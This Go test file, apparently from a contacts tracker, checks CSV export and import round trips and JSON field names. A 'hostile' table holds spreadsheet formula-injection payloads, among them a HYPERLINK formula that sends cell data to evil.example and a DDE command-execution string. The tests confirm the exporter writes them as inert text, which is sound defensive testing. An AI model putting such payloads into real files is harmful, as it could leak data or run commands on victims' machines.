package contacts

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/rapport-mail/rapport/contacts/importer"
	"github.com/rapport-mail/rapport/store"
)

// TestWriteCSVImportsBack writes seedContacts' contacts, one introduced
// by another, and reads them back with the importer.
func TestWriteCSVImportsBack(t *testing.T) {
	ctx := context.Background()
	st, tr := setupTracker(t, nil)
	seedContacts(t, st, tr)
	err := st.WithTx(ctx, func(tx *store.Tx) error {
		_, err := tr.AddContact(ctx, tx, AddRequest{Contact: store.Contact{Name: "Ana, \"the\" Engineer", Email: "ana@initech.example",
			Company: "Initech", Field: "controls", TimeZone: "Europe/Madrid", Notes: "line one\nline two", IntroducedBy: 2,
			Tags: []string{"b", "a"}}, Source: store.SourceCLI}, trackerNow)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	list, err := st.Read().ListContacts(ctx, store.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, list); err != nil {
		t.Fatalf("WriteCSV() error = %v", err)
	}
	parsed, err := importer.Parse(&buf)
	if err != nil || len(parsed.Problems) > 0 || len(parsed.Rows) != len(list) {
		t.Fatalf("importer.Parse(WriteCSV()) = %+v, %v; want %d rows and no problem", parsed, err, len(list))
	}
	for i, row := range parsed.Rows {
		c := list[i]
		introducer := ""
		if c.IntroducedBy == 2 {
			introducer = "marc@egis.example"
		}
		if row.Name != c.Name || row.Email != c.Email || row.Company != c.Company || row.Role != c.Role || row.Field != c.Field ||
			row.URL != c.URL || row.TimeZone != c.TimeZone || row.Notes != c.Notes || row.IntroducedBy != introducer ||
			strings.Join(row.Tags, ",") != strings.Join(c.Tags, ",") {
			t.Errorf("row %d read back = %+v\nwant the contact %+v", i, row, c)
		}
	}
}

// TestRecordNames pins the JSON names scripts read.
func TestRecordNames(t *testing.T) {
	st, tr := setupTracker(t, nil)
	jane := addJane(t, st, tr)
	hist, _ := st.Read().History(context.Background(), jane.ID)
	b, err := json.Marshal(NewRecord(jane, hist))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{`"id":1`, `"name":"Jane Doe"`, `"email":"jane@acme.example"`, `"status":"new"`, `"stage":"identify"`,
		`"next_action":"write a request"`, `"created_at":"2026-11-23T10:00:00Z"`, `"history":[{"at":"2026-11-23T10:00:00Z","kind":"added"`} {
		if !strings.Contains(string(b), name) {
			t.Errorf("NewRecord() JSON lacks %s:\n%s", name, b)
		}
	}
}

// hostile are values a spreadsheet would evaluate, as they come in mail
// headers and pasted notes.
var hostile = []struct{ name, value, cell string }{
	{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
	{"dde", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{"plus", "+SUM(1)", "'+SUM(1)"},
	{"minus", "-1+2", "'-1+2"},
	{"at", "@foo", "'@foo"},
	{"tab", "\t=1", "'\t=1"},
	{"carriage return", "\r=1", "'\r=1"},
	{"a quote of its own before a formula", "'=1", "''=1"},
	{"a quote of its own", "'tis I", "'tis I"},
	{"plain", "Jane Doe", "Jane Doe"},
}

// Every cell that starts a formula is written as text.
func TestWriteCSVNeutralizesFormulas(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			c := store.Contact{ID: 7, Name: h.value, Company: h.value, Notes: h.value, Tags: []string{h.value}, Source: h.value}
			var buf bytes.Buffer
			if err := WriteCSV(&buf, []store.Contact{c}); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&buf).ReadAll()
			if err != nil || len(records) != 2 {
				t.Fatalf("WriteCSV() wrote %q, %v; want a header and a row", records, err)
			}
			for i, col := range records[0] {
				switch col {
				case "name", "company", "notes", "tags", "source":
					if got := records[1][i]; got != h.cell {
						t.Errorf("WriteCSV() %s cell = %q, want %q", col, got, h.cell)
					}
				}
			}
		})
	}
}

// A file rapport exported imports back with every value as it was, the
// hostile ones included.
func TestExportImportRoundTrip(t *testing.T) {
	ctx := context.Background()
	from, fromTr := setupTracker(t, nil)
	err := from.WithTx(ctx, func(tx *store.Tx) error {
		for i, h := range hostile {
			// Names lose outer white space on import, as in any file.
			name := strings.TrimSpace(h.value) + fmt.Sprintf(" %d", i)
			c := store.Contact{Name: name, Email: fmt.Sprintf("p%d@x.example", i), Company: h.value, Role: h.value,
				Notes: h.value, Source: h.value, Tags: []string{"=tag", "@b"}}
			if _, err := fromTr.AddContact(ctx, tx, AddRequest{Contact: c, Source: store.SourceCLI}, trackerNow); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	before, _ := from.Read().ListContacts(ctx, store.ListOptions{})
	var buf bytes.Buffer
	if err := WriteCSV(&buf, before); err != nil {
		t.Fatal(err)
	}
	to, toTr := setupTracker(t, nil)
	rep, _, err := runImport(t, to, toTr, buf.String(), ImportOptions{File: "export.csv"})
	if err != nil || rep.Format != importer.FormatRapport || len(rep.Problems) > 0 || len(rep.Warnings) > 0 || rep.Added != len(before) {
		t.Fatalf("Import(WriteCSV()) = %+v, %v; want every contact added, read as rapport's export, without a word", rep, err)
	}
	after, _ := to.Read().ListContacts(ctx, store.ListOptions{})
	// What any import does to a value: white space trimmed (notes) or
	// collapsed (the rest).
	trim := strings.TrimSpace
	collapse := func(s string) string { return strings.Join(strings.Fields(s), " ") }
	for i, b := range before {
		a := after[i]
		if a.Name != b.Name || a.Email != b.Email || a.Company != collapse(b.Company) || a.Role != collapse(b.Role) ||
			a.Notes != trim(b.Notes) || a.Source != collapse(b.Source) || strings.Join(a.Tags, ",") != strings.Join(b.Tags, ",") {
			t.Errorf("contact %d after export and import = %+v\nwant %+v", i, a, b)
		}
	}
}
